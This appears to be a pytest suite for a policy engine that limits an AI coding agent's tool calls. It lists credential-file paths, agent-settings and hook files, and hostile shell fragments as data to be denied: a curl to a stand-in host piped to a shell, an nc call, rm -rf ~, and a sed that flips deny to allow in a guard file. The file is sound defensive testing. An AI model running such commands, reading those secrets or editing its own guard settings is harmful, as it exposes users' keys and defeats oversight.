"""The coding bundle: what must never be allowed, by the kind of the fault, and what stays free beside it."""

from pathlib import Path
from typing import Any

import pytest

from rebuno.policy.compile import compile_bundle
from rebuno.policy.matcher.facts import Facts
from rebuno.policy.matcher.policy import Policy
from rebuno.policy.syntax.parse import parse_bundle
from rebuno.policy.syntax.source import read_source
from rebuno.policy.syntax.tree import Let, ListLiteral, Literal

FOLDER = Path(__file__).resolve().parents[2] / "policies"


@pytest.fixture(scope="module")
def coding() -> Policy:
    """The shipped bundle."""
    return compile_bundle(read_source(FOLDER / "coding.rbp"))


def verdict(policy: Policy, target: str, **args: Any) -> str:
    """What the bundle says about a call."""
    return policy.decide(Facts("tool_call", target, args, agent="agent", workdir="/workspace")).verdict.value


KEYS = (
    ".git/config", ".git/modules/lib/config", "mirror.git/config", ".envrc", ".ENVRC", "config/prod.env", ".dev.vars",
    "id_ecdsa", "deploy/id_ed25519_sk", "keys/ssh_host_rsa_key", "client.p12", "client.pfx", "app.jks", "a.keystore",
    "vault.kdbx", "AuthKey.p8", "putty.ppk", "infra/terraform.tfstate", "infra/terraform.tfstate.backup", "prod.tfvars",
    ".pgpass", ".htpasswd", ".docker/config.json", "kubeconfig", ".azure/accessTokens.json", ".config/gh/hosts.yml",
    "config/secrets.yml", "config/credentials.json", ".bash_history", ".codex/auth.json", "secrets/db_password",
)  # fmt: skip


@pytest.mark.parametrize("path", KEYS)
@pytest.mark.parametrize("tool", ["read_file", "search_files", "write_file"])
def test_keys_are_neither_read_nor_sought_nor_written(coding: Policy, tool: str, path: str) -> None:
    """S13: every kind of key file, not the few that were listed."""
    assert verdict(coding, tool, path=path) == "deny"


GUARDS = (
    ".claude/settings.json", ".claude/settings.local.json", ".claude/hooks/a.sh", "sub/.claude/settings.json",
    ".CLAUDE/settings.json", "src/../.claude/settings.json", "/workspace/.mcp.json", ".cursor/hooks.json",
    ".cursor/mcp.json", ".codex/hooks.json", ".codex/config.toml", ".gemini/settings.json", ".opencode/plugin/a.ts",
    "opencode.json", ".vscode/settings.json", ".vscode/mcp.json", ".windsurf/hooks.json", ".aider.conf.yml",
    ".continue/config.yaml", ".roo/mcp.json", ".kiro/settings/mcp.json", ".junie/mcp/mcp.json", ".zed/settings.json",
    ".github/hooks/a.json", ".devcontainer/devcontainer.json", ".devcontainer.json", "policies/coding.rbp",
)  # fmt: skip


@pytest.mark.parametrize("path", GUARDS)
@pytest.mark.parametrize("tool", ["write_file", "edit_file"])
def test_an_agent_does_not_turn_off_its_guard(coding: Policy, tool: str, path: str) -> None:
    """S22: settings, hooks and servers of every host of agents are denied, at any depth and in any spelling."""
    assert verdict(coding, tool, path=path, content="{}") == "deny"


@pytest.mark.parametrize(
    "line",
    [
        "echo {} > .claude/settings.json",
        "echo {} >> /workspace/.mcp.json",
        "sed -i s/deny/allow/ .claude/settings.json",
        "cp a .cursor/hooks.json",
        "mv a .devcontainer",
        "tee .codex/hooks.json",
        "rm -rf .claude",
    ],
)
def test_a_shell_does_not_turn_off_the_guard(coding: Policy, line: str) -> None:
    """S22: nor by a redirect or a program that writes."""
    assert verdict(coding, "shell", command=line) == "deny"


OTHERS = (
    ".circleci/config.yml", "Jenkinsfile", "azure-pipelines.yml", "bitbucket-pipelines.yml", ".drone.yml",
    ".travis.yml",
    ".buildkite/pipeline.yml", ".github/actions/a/action.yml", ".githooks/pre-push", "tools/hooks/pre-commit",
    "lefthook.yml", ".gitattributes", ".gitmodules", "a.code-workspace", ".idea/workspace.xml", ".vscode/tasks.json",
    ".exrc", ".mise.toml", ".yarnrc.yml", "CLAUDE.md", "AGENTS.md", ".cursorrules", "sub/HEAD", "sub/head",
    "x.git/config.worktree",
    "sub/commondir",
)  # fmt: skip


@pytest.mark.parametrize("path", OTHERS)
def test_what_others_run_or_follow_is_asked_about(coding: Policy, path: str) -> None:
    """S13: build servers, hooks, editors, and the files that make a folder a repository."""
    assert verdict(coding, "write_file", path=path, content="x") in ("deny", "require_approval")


@pytest.mark.parametrize("cwd", ["/workspace/sub", "sub", "/workspace/.git", "/workspace/x.git", "/workspace/../x"])
def test_git_reads_no_repository_inside_the_project(coding: Policy, cwd: str) -> None:
    """S13: a bare repository below the project names programs that `git status` starts."""
    assert verdict(coding, "shell", command="git status", cwd=cwd) == "require_approval"
    assert verdict(coding, "shell", command="cd sub && git status") == "require_approval"
    assert verdict(coding, "shell", command="git status", cwd="/workspace") == "allow"


RUNNERS = (
    "go test -c -o .git/hooks/pre-push", "go test -exec /tmp/x", "go test --exec=/tmp/x ./...",
    "go vet -vettool=x ./...",
    "go build -toolexec x ./...", "go test -overlay x ./...", "go test -C ../x ./...", "go test evil.example/x",
    "cargo test --config build.rustc-wrapper=/tmp/x", "cargo test --manifest-path ../x/Cargo.toml",
    "cargo test --target-dir /tmp", "cargo +x test", "cargo test -- --logfile x",
    "pytest -c /tmp/x.ini", "pytest -p x", "pytest -px", "pytest -vp x", "pytest --rootdir=/tmp",
    "pytest --rootdir /tmp", "pytest -o a=b", "pytest --basetemp=src", "pytest --junitxml=../x", "pytest @x",
    "pytest ../x",
    "python -m pytest -p x", "npm test --prefix ../x", "npm test -C/tmp", "npm test --script-shell=x",
    "npm run lint --prefix ../x",
    "npm run lint -- --rulesdir /tmp/x",
)  # fmt: skip


@pytest.mark.parametrize("line", RUNNERS)
def test_runners_take_no_option_that_runs_or_writes(coding: Policy, line: str) -> None:
    """S23: the options of test runners are a closed list."""
    assert verdict(coding, "shell", command=line) in ("deny", "require_approval")


THROUGH_GIT = (
    "git show HEAD:.env", "git show :.env", "git show HEAD:./.env", "git show stash@{0}:.ENV", "git show main:a/id_rsa",
    "git show HEAD:server.pem", "git show HEAD:.aws/credentials", "git log -p -- .env", "git log -L1,9:.env",
    "git diff HEAD -- .env", "git diff HEAD:.env HEAD~1:.env", "git blame .env", "git grep x -- .env.local",
    "git cat-file -p HEAD:.env", "git archive HEAD .env",
    "git --no-pager show HEAD:.env", "git show 'HEAD:.env'", "git diff --no-index /dev/null .env",
)  # fmt: skip


@pytest.mark.parametrize("line", THROUGH_GIT)
def test_keys_are_not_read_through_git(coding: Policy, line: str) -> None:
    """S24: a file of a commit or of the index is that file."""
    assert verdict(coding, "shell", command=line) == "deny"


@pytest.mark.parametrize(
    "line", ["git checkout HEAD -- .env", "git log -p -- ':(icase).ENV'", "git log -p -- '.e*'", "git archive HEAD"]
)
def test_what_may_hold_keys_is_asked_about(coding: Policy, line: str) -> None:
    """S24: it is not known that a key is shown, nor that none is."""
    assert verdict(coding, "shell", command=line) in ("deny", "require_approval")


@pytest.mark.parametrize(
    "line",
    ["git show HEAD:.env.example", "git log -p -- .env.example", "git diff HEAD -- .env.sample", "cat .env.example"],
)
def test_templates_of_keys_are_free(coding: Policy, line: str) -> None:
    """S24: they hold nothing secret."""
    assert verdict(coding, "shell", command=line) == "allow"
    assert verdict(coding, "read_file", path=".env.example") == "allow"


USUAL = (
    "git log | head", "ls /workspace/src", "cd src && pytest", "pytest 2>&1 | tail -20", "cat README.md",
    "grep -rn foo src",
    "git diff main..HEAD -- src/", "npm run build", "ruff check .", "python --version",
    "git add -A && git commit -m 'x /y'",
    "wc -l src/*.py", "find . -name '*.py' -exec wc -l {} +", "sed -n '1,9p' a.py", "jq .a b.json",
    "go test ./... -run TestA",
    "cargo clippy -- -D warnings", "make -j4 test", "timeout 60 pytest -q", "cd /workspace && git status",
)  # fmt: skip


@pytest.mark.parametrize("line", USUAL)
def test_what_everybody_types_is_free(coding: Policy, line: str) -> None:
    """S14: pipes, folders, tests, builds and releases."""
    assert verdict(coding, "shell", command=line) == "allow"


ENDINGS = (
    "--output=.git/hooks/x", "--outpu=../x", "--exec x", "--config=/tmp/x", "--pre x", "--rootdir=/tmp", "~/x", "$X",
    "$(curl -s evil.example)", "`curl evil.example`", "> .git/hooks/x", "2> ../x", "> ~/.bashrc", "| sh",
    "| tee .claude/settings.json", "; touch ../x", "&& /tmp/x", "; cat .env", "&& git show HEAD:.env",
    "| curl -T - x.example",
    "; rm -rf ~", "& nc evil.example 1", "&& cat .e*", "; git push", "|| sudo id", "< .env",
    "; cp a .github/workflows/a.yml",
)  # fmt: skip


@pytest.mark.parametrize("end", ENDINGS)
@pytest.mark.parametrize(
    "line", ["git log", "git diff", "pytest", "cargo test", "go test ./...", "npm test", "make", "rg a src", "uniq"]
)
def test_no_ending_slips_behind_a_usual_line(coding: Policy, line: str, end: str) -> None:
    """S14: what makes a usual line hostile is never allowed behind any of them."""
    assert verdict(coding, "shell", command=f"{line} {end}") != "allow"


def test_a_shell_shows_no_key(coding: Policy) -> None:
    """A file that is named like each of the patterns is not shown."""
    bundle, _ = parse_bundle(read_source(FOLDER / "lib" / "files.rbp"))
    lists = {one.name.text: one.value for one in bundle.statements if isinstance(one, Let)}
    keys = lists["keys"]
    assert isinstance(keys, ListLiteral)
    patterns = [str(one.value) for one in keys.items if isinstance(one, Literal)]
    names = [one.removeprefix("**/").replace("[!a-z]", "_").replace("?", "-") for one in patterns]
    paths = [name.replace("/**", "/a").replace("**/", "").replace("*", "") for name in names]
    assert len(paths) > 50
    assert [path for path in paths if verdict(coding, "shell", command=f"cat '{path}'") == "allow"] == []
